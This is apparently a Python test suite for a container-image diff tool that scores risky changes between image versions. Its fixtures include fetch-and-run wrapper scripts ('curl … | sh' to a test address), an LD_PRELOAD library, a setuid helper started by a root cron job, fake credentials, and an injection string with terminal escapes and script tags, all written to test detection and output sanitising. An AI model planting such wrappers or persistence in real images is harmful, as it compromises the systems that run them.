"""What an update brought: the attacks of 2026, ordinary updates, and the forms of the result."""
import json
import os
import subprocess

import jsonschema

import support  # first: it sets the path
import images
from images import File

STATUS = "\n".join(f"Package: {name}\nStatus: install ok installed\nArchitecture: amd64\nVersion: {version}\n" for name, version in
                   [("bash", "5.2-1"), ("coreutils", "9.1-1"), ("tini", "0.19-1")])
SERVER = images.elf(b"server 1.0\0")


def base(status=STATUS, **files):
    """A small Debian: programs, their packages, an application."""
    entries = {
        "bin/bash": File("bin/bash", images.elf(b"bash\0"), mode=0o755),
        "usr/bin/ls": File("usr/bin/ls", images.elf(b"ls\0"), mode=0o755),
        "usr/bin/tini": File("usr/bin/tini", images.elf(b"tini\0"), mode=0o755),
        "var/lib/dpkg/status": File("var/lib/dpkg/status", status),
        "var/lib/dpkg/info/bash.list": File("var/lib/dpkg/info/bash.list", "/.\n/bin/bash\n"),
        "var/lib/dpkg/info/coreutils.list": File("var/lib/dpkg/info/coreutils.list", "/.\n/usr/bin/ls\n"),
        "var/lib/dpkg/info/tini.list": File("var/lib/dpkg/info/tini.list", "/.\n/usr/bin/tini\n"),
        "etc/os-release": File("etc/os-release", "ID=debian\n"),
        "app/server": File("app/server", SERVER, mode=0o755),
        "docker-entrypoint.sh": File("docker-entrypoint.sh", "#!/bin/bash\nset -e\nexec \"$@\"\n", mode=0o755),
    }
    entries.update(files)
    return images.layer(*[entry for entry in entries.values() if entry is not None])


BASE = base()


def application(*layers, **options):
    options.setdefault("entrypoint", ["/docker-entrypoint.sh"])
    options.setdefault("cmd", ["/app/server"])
    return images.Image(list(layers) or [BASE], **options)


def diff(before, after, *arguments, form="json", check=None, env=None):
    with support.temporary_folder() as folder:
        for name, image in (("before", before), ("after", after)):
            if isinstance(image, images.Image):
                images.write_layout(os.path.join(folder, name), {"latest": image})
        command = [support.LAZARET, "diff", "--no-cache", "--quiet", "--format", form, *arguments]
        command += [f"oci:{folder}/{name}" if isinstance(image, images.Image) else image for name, image in (("before", before), ("after", after))]
        if form == "table":
            command.remove("--quiet")
        done = subprocess.run(command, capture_output=True, text=True, timeout=300, env=dict(os.environ, **(env or {})))
        if check is not None:
            assert done.returncode == check, (done.returncode, done.stdout[:1500], done.stderr)
        return json.loads(done.stdout) if form == "json" else done.stdout


def files_of(result):
    return {file["path"]: file for file in result["platforms"][0]["files"]["list"]}


def codes(result, severity=None):
    return {risk["code"] for risk in result["risks"] if severity in (None, risk["severity"])}


def test_the_same_image_twice_has_no_difference_and_no_risk():
    result = diff(application(), application(), check=0)
    platform = result["platforms"][0]
    assert result["risk"] == "none" and not result["risks"] and not result["findings"]
    assert not platform["files"]["list"] and not platform["packages"] and not platform["config"] and not platform["abilities"]


def test_another_build_of_the_same_files_has_no_difference():
    """Layers cut otherwise, other digests: the containers are the same."""
    one = images.layer(File("a", "1"), File("b", "2"))
    assert diff(application(BASE, one), application(BASE, images.layer(File("b", "2")), images.layer(File("a", "1"))))["platforms"][0]["files"]["list"] == []


def test_a_prepended_wrapper_and_a_program_of_nobody_are_a_high_risk_though_no_rule_knows_the_payload():
    payload = images.layer(File("wrapper.sh", "#!/bin/sh\n/usr/lib/.helper &\nexec \"$@\"\n", mode=0o755),
                           File("usr/lib/helper", images.elf(b"nothing that a rule knows\0"), mode=0o755))
    result = diff(application(), application(BASE, payload, entrypoint=["/wrapper.sh", "/docker-entrypoint.sh"]), check=1)
    assert result["risk"] == "high", result["risks"]
    assert result["risk_line"].startswith("high: the entrypoint now starts /wrapper.sh first, which no package owns"), result["risk_line"]
    assert "entrypoint-wrapped" in codes(result, "high") and "program-added" in codes(result)
    assert files_of(result)["/wrapper.sh"]["started"] and not files_of(result)["/usr/lib/helper"]["package"]
    config = {change["field"]: (json.loads(change["old"]), json.loads(change["new"])) for change in result["platforms"][0]["config"]}
    assert config == {"Entrypoint": (["/docker-entrypoint.sh"], ["/wrapper.sh", "/docker-entrypoint.sh"])}


def test_a_wrapper_that_is_a_program_itself_is_a_high_risk():
    payload = images.layer(File("usr/local/bin/init", images.elf(b"nothing\0"), mode=0o755))
    result = diff(application(), application(BASE, payload, entrypoint=["/usr/local/bin/init", "/docker-entrypoint.sh"]), check=1)
    assert "entrypoint-wrapped" in codes(result, "high"), result["risks"]


def test_a_wrapper_that_takes_the_place_and_calls_the_old_entrypoint_is_a_high_risk():
    payload = images.layer(File("wrapper.sh", "#!/bin/sh\n/opt/x &\nexec /docker-entrypoint.sh \"$@\"\n", mode=0o755))
    result = diff(application(), application(BASE, payload, entrypoint=["/wrapper.sh"]), check=1)
    assert "entrypoint-wrapped" in codes(result, "high"), result["risks"]


def test_a_wrapper_behind_a_shell_of_a_package_is_a_high_risk():
    payload = images.layer(File("opt/start", "/opt/x &\n\"$@\"\n"))
    result = diff(application(), application(BASE, payload, entrypoint=["/bin/bash", "/opt/start", "/docker-entrypoint.sh"]), check=1)
    assert result["risk_line"].startswith("high: the entrypoint now starts /opt/start first"), result["risk_line"]


def test_a_shell_command_in_front_of_the_entrypoint_is_a_high_risk():
    result = diff(application(), application(BASE, entrypoint=["/bin/bash", "-c", "/x & exec \"$@\"", "--", "/docker-entrypoint.sh"]), check=1)
    assert "entrypoint-wrapped" in codes(result, "high"), result["risks"]


def test_what_the_wrapper_does_stands_in_the_risk_line():
    payload = images.layer(File("wrapper.sh", "#!/bin/sh\ncurl -fsSL http://203.0.113.9/x.sh | sh\nexec \"$@\"\n", mode=0o755))
    result = diff(application(), application(BASE, payload, entrypoint=["/wrapper.sh", "/docker-entrypoint.sh"]), check=1)
    wrapped = [risk for risk in result["risks"] if risk["code"] == "entrypoint-wrapped"][0]
    assert wrapped["text"] == "the entrypoint now starts /wrapper.sh first, which no package owns and which fetches and runs a program", wrapped
    assert result["findings"][0]["change"] == "added" and result["findings"][0]["path"] == "/wrapper.sh"
    assert any("curl" in line for line in result["platforms"][0]["scripts"][0]["lines"])


def test_a_replaced_entrypoint_whose_old_program_moved_aside_is_a_high_risk():
    """The configuration is the same to the letter."""
    payload = images.layer(File("docker-entrypoint.sh", images.elf(b"nothing\0"), mode=0o755),
                           File("docker-entrypoint.orig", "#!/bin/bash\nset -e\nexec \"$@\"\n", mode=0o755))
    result = diff(application(), application(BASE, payload), check=1)
    replaced = [risk for risk in result["risks"] if risk["code"] == "program-replaced"]
    assert replaced and replaced[0]["severity"] == "high" and "/docker-entrypoint.orig" in replaced[0]["text"], result["risks"]


def test_a_command_found_earlier_in_the_path_is_a_high_risk():
    before = application(BASE, entrypoint=["bash", "-l"], cmd=[])
    after = application(BASE, images.layer(File("usr/local/bin/bash", images.elf(b"nothing\0"), mode=0o755)), entrypoint=["bash", "-l"], cmd=[])
    assert "command-shadowed" in codes(diff(before, after, check=1), "high")


def test_a_loader_variable_with_a_new_library_is_a_high_risk():
    payload = images.layer(File("usr/lib/libx.so", images.elf(b"nothing\0")))
    result = diff(application(), application(BASE, payload, env=["LD_PRELOAD=/usr/lib/libx.so"]), check=1)
    assert "loader-variable" in codes(result, "high"), result["risks"]


def test_a_program_of_a_package_that_did_not_change_is_a_high_risk():
    result = diff(application(), application(BASE, images.layer(File("usr/bin/ls", images.elf(b"another\0"), mode=0o755))), check=1)
    assert "package-file-changed" in codes(result, "high"), result["risks"]
    package = result["platforms"][0]["packages"][0]
    assert package["name"] == "coreutils" and package["old_version"] == package["new_version"] and package["files_changed"] == 1


def test_a_package_that_claims_a_file_more_at_the_same_version_does_not_own_it():
    payload = images.layer(File("usr/bin/x", images.elf(b"nothing\0"), mode=0o755), File("var/lib/dpkg/info/coreutils.list", "/.\n/usr/bin/ls\n/usr/bin/x\n"))
    result = diff(application(), application(BASE, payload, entrypoint=["/usr/bin/x", "/docker-entrypoint.sh"]), check=1)
    assert {"package-claims", "entrypoint-wrapped"} <= codes(result, "high"), result["risks"]


def test_a_package_update_is_one_line_and_no_risk():
    status = STATUS.replace("9.1-1", "9.1-2")
    result = diff(application(), application(base(status, **{"usr/bin/ls": File("usr/bin/ls", images.elf(b"ls, better\0"), mode=0o755)})), check=0)
    platform = result["platforms"][0]
    assert [(p["name"], p["old_version"], p["new_version"], p["files_changed"]) for p in platform["packages"]] == [("coreutils", "9.1-1", "9.1-2", 1)]
    assert platform["files"]["list"] == [] and platform["files"]["changed"] == 2 and platform["files"]["bookkeeping"] == 1
    assert result["risk"] == "none", result["risks"]


def test_an_update_of_the_application_is_a_low_risk_at_most():
    result = diff(application(), application(base(**{"app/server": File("app/server", images.elf(b"server 1.1\0"), mode=0o755)}), env=["VERSION=1.1"]), check=0)
    assert result["risk"] in ("none", "low"), result["risks"]
    assert "content" in files_of(result)["/app/server"]["aspects"][0] and files_of(result)["/app/server"]["started"]


def test_an_init_of_a_package_in_front_is_a_low_risk():
    result = diff(application(), application(BASE, entrypoint=["/usr/bin/tini", "--", "/docker-entrypoint.sh"]), check=0)
    assert result["risk"] == "low", result["risks"]


def test_mode_owner_setuid_and_targets_are_told():
    before = application(BASE, images.layer(File("a", "x"), File("b", "x"), File("c", link="a"), File("d", "x"), File("e", "12"), File("gone", "x")))
    after = application(BASE, images.layer(File("a", "x", mode=0o4755), File("b", "x", uid=33, gid=33), File("c", link="b"), File("d", folder=True), File("e", "21")))
    files = files_of(diff(before, after))
    assert files["/a"]["aspects"] == ["mode 0644 -> 4755"]
    assert files["/b"]["aspects"] == ["owner 0:0 -> 33:33"]
    assert files["/c"]["aspects"] == ["target a -> b"]
    assert files["/d"]["aspects"][0] == "text -> folder"
    assert files["/e"]["aspects"] == ["content"]
    assert files["/gone"]["change"] == "removed"


def test_a_hard_link_is_the_file_it_names():
    before = application(BASE, images.layer(File("a", "one"), File("b", "one")))
    after = application(BASE, images.layer(File("a", "one"), File("b", hard="a")))
    assert diff(before, after)["platforms"][0]["files"]["list"] == []
    changed = application(BASE, images.layer(File("a", "two"), File("b", hard="a")))
    assert files_of(diff(after, changed))["/b"]["aspects"] == ["content"]


def test_a_deleted_file_is_removed():
    result = diff(application(), application(BASE, images.layer(File("app/.wh.server"))))
    assert files_of(result)["/app/server"]["change"] == "removed"


def test_what_gives_power_is_told():
    payload = images.layer(File("usr/bin/nmap", images.elf(b"x\0"), mode=0o755), File("usr/bin/helper", images.elf(b"y\0"), mode=0o4755),
                           File("lib/modules/6.1/x.ko", images.elf(b"z\0")), File("etc/cron.d/job", "* * * * * root /usr/bin/helper\n"))
    result = diff(application(), application(BASE, payload), check=1)
    kinds = {(ability["kind"], ability["path"]) for ability in result["platforms"][0]["abilities"] if ability["change"] == "added"}
    assert {("network-tool", "/usr/bin/nmap"), ("setuid", "/usr/bin/helper"), ("kernel-module", "/lib/modules/6.1/x.ko"),
            ("starts-by-itself", "/etc/cron.d/job")} <= kinds, kinds
    assert {"setuid", "starts-by-itself"} <= codes(result)


def test_the_whole_configuration_is_compared():
    before = application(BASE, labels={"version": "1"}, env=["A=1", "B=2"])
    after = application(BASE, labels={"version": "2"}, env=["A=1", "C=3"], healthcheck=["CMD", "/app/server", "-check"], working_dir="/app")
    fields = {change["field"] for change in diff(before, after)["platforms"][0]["config"]}
    assert fields == {"Labels.version", "Env.B", "Env.C", "Healthcheck", "WorkingDir"}, fields


def test_findings_are_new_changed_or_gone_whatever_layer_they_moved_to():
    dropper = "#!/bin/sh\ncurl -s http://203.0.113.9/{} | sh\n"
    before = application(BASE, images.layer(File("a.sh", dropper.format("a"), mode=0o755), File("b.sh", dropper.format("b"), mode=0o755)))
    after = application(BASE, images.layer(File("filler", "x")), images.layer(File("a.sh", dropper.format("a"), mode=0o755), File("c.sh", dropper.format("c"), mode=0o755)))
    changes = {(finding["change"], finding["path"]) for finding in diff(before, after)["findings"] if finding["path"].endswith(".sh")}
    assert changes == {("added", "/c.sh"), ("removed", "/b.sh")}, changes


def test_the_exit_code_follows_the_threshold():
    after = application(BASE, images.layer(File("wrapper.sh", "#!/bin/sh\nexec \"$@\"\n", mode=0o755)), entrypoint=["/wrapper.sh", "/docker-entrypoint.sh"])
    diff(application(), after, "--fail-on", "critical", check=0)
    diff(application(), after, "--fail-on", "medium", check=1)
    diff(application(), after, "--fail-on", "never", check=0)
    diff(application(), application(), "--fail-on", "low", check=0)
    done = subprocess.run([support.LAZARET, "diff", "--no-cache", "oci:/does/not/exist", "oci:/nor/this"], capture_output=True, text=True)
    assert done.returncode == 2 and "/does/not/exist" in done.stderr


def test_two_transports_of_one_image_are_the_same():
    with support.temporary_folder() as folder:
        image = application()
        images.write_docker_archive(os.path.join(folder, "image.tar"), {"app:1": image})
        images.write_layout(os.path.join(folder, "layout"), {"latest": image})
        result = diff(f"docker-archive:{folder}/image.tar", f"oci:{folder}/layout", check=0)
        assert result["platforms"][0]["files"]["list"] == [] and result["platforms"][0]["config"] == []


def test_a_secret_that_was_found_is_not_repeated():
    secret = "ghp_" + "".join("abcdefghijklmnopqrstuvwxyzABCDEFGHIJ0123456789"[i * 7 % 46] for i in range(36))
    key = "AKIA" + "Q3EGRKPNXZ5VTY7M"
    payload = images.layer(File("docker-entrypoint.sh", f"#!/bin/bash\nset -e\nexport AWS_ACCESS_KEY_ID={key}\nlogger started\nexec \"$@\"\n", mode=0o755))
    result = diff(application(), application(BASE, payload, env=[f"GITHUB_TOKEN={secret}", "PLAIN=yes"]))
    secrets = {finding["path"]: finding["line"] for finding in result["findings"] if finding["category"] == "exposed-secret"}
    values = {change["field"]: change["new"] for change in result["platforms"][0]["config"]}
    assert values["Env.PLAIN"] == "yes"
    for path, line in secrets.items():
        if path.startswith("config.Env."):
            assert values[path.removeprefix("config.")] == "(holds a secret)", values
    lines = [text for script in result["platforms"][0]["scripts"] for text in script["lines"]]
    assert "logger started" in lines
    if "/docker-entrypoint.sh" in secrets:
        assert key not in json.dumps(result), lines
    assert secrets, "no rule found the secrets of this test"


def write_index(folder, by_platform):
    """A layout whose only image is an index of platforms."""
    images.write_layout(folder, by_platform)
    with open(os.path.join(folder, "index.json")) as file:
        index = json.load(file)
    manifests = []
    for manifest in index["manifests"]:
        name = manifest.pop("annotations")["org.opencontainers.image.ref.name"]
        manifests.append(dict(manifest, platform={"os": "linux", "architecture": name}))
    inner = json.dumps({"schemaVersion": 2, "mediaType": "application/vnd.oci.image.index.v1+json", "manifests": manifests}).encode()
    with open(os.path.join(folder, "blobs", "sha256", images.digest(inner)[7:]), "wb") as file:
        file.write(inner)
    with open(os.path.join(folder, "index.json"), "w") as file:
        json.dump({"schemaVersion": 2, "manifests": [{"mediaType": "application/vnd.oci.image.index.v1+json", "digest": images.digest(inner), "size": len(inner)}]}, file)


def test_platforms_of_indexes_are_compared_with_their_own():
    """The payload is in the image of one platform only."""
    payload = images.layer(File("wrapper.sh", "#!/bin/sh\nexec \"$@\"\n", mode=0o755))
    wrapped = application(BASE, payload, entrypoint=["/wrapper.sh", "/docker-entrypoint.sh"], architecture="arm64")
    with support.temporary_folder() as folder:
        write_index(os.path.join(folder, "before"), {"amd64": application(), "arm64": application(architecture="arm64")})
        write_index(os.path.join(folder, "after"), {"amd64": application(), "arm64": wrapped, "s390x": application(architecture="s390x")})
        result = diff(f"oci:{folder}/before", f"oci:{folder}/after", check=1)
    assert [(p["old_platform"], p["new_platform"]) for p in result["platforms"]] == [("linux/amd64",) * 2, ("linux/arm64",) * 2, ("", "linux/s390x")]
    assert result["risks"][0]["code"] == "entrypoint-wrapped" and result["risks"][0]["platforms"] == ["linux/arm64"]
    assert result["platforms"][0]["files"]["added"] == 0 and result["platforms"][1]["files"]["added"] == 1
    assert "platform-added" in codes(result, "low")


EVIL = "\x1b[2J\u202e<script>alert(1)</script>`|[x](http://evil.example)\n@everyone"


def evil():
    layer = images.layer(File(f"tmp/{EVIL}", "#!/bin/sh\ncurl http://203.0.113.9/x | sh # " + EVIL + "\n", mode=0o755), File(f"tmp/{EVIL}.so", images.elf(b"x\0"), mode=0o4755))
    return application(BASE, layer, entrypoint=[f"/tmp/{EVIL}", "/docker-entrypoint.sh"], labels={EVIL: EVIL}, env=[f"LD_PRELOAD=/tmp/{EVIL}.so"])


def test_json_follows_the_schema():
    schema = json.loads((support.ROOT / "docs" / "diff.schema.json").read_text())
    jsonschema.validate(diff(application(), evil()), schema)
    jsonschema.validate(diff(evil(), application()), schema)
    jsonschema.validate(diff(application(), application()), schema)


def test_no_form_lets_control_characters_through():
    for form in ("table", "markdown", "json"):
        text = diff(application(), evil(), form=form) if form != "json" else json.dumps(diff(application(), evil()))
        assert not [c for c in text if ord(c) < 32 and c != "\n"], form
        assert form == "json" or "\u202e" not in text, form
        if form == "markdown":  # in a fenced block the text stays text
            assert "<script>" not in "".join(text.split("```")[::2])


def test_the_table_fits_its_width():
    for width in (80, 120):
        text = diff(application(), evil(), form="table", env={"COLUMNS": str(width)})
        assert max(len(line) for line in text.splitlines()) <= width, [line for line in text.splitlines() if len(line) > width]


def test_the_result_does_not_depend_on_the_number_of_threads():
    results = [diff(application(), evil(), "--jobs", jobs) for jobs in ("1", "4", "1")]
    assert results[0] == results[1] == results[2]


if __name__ == "__main__":
    support.main(globals())
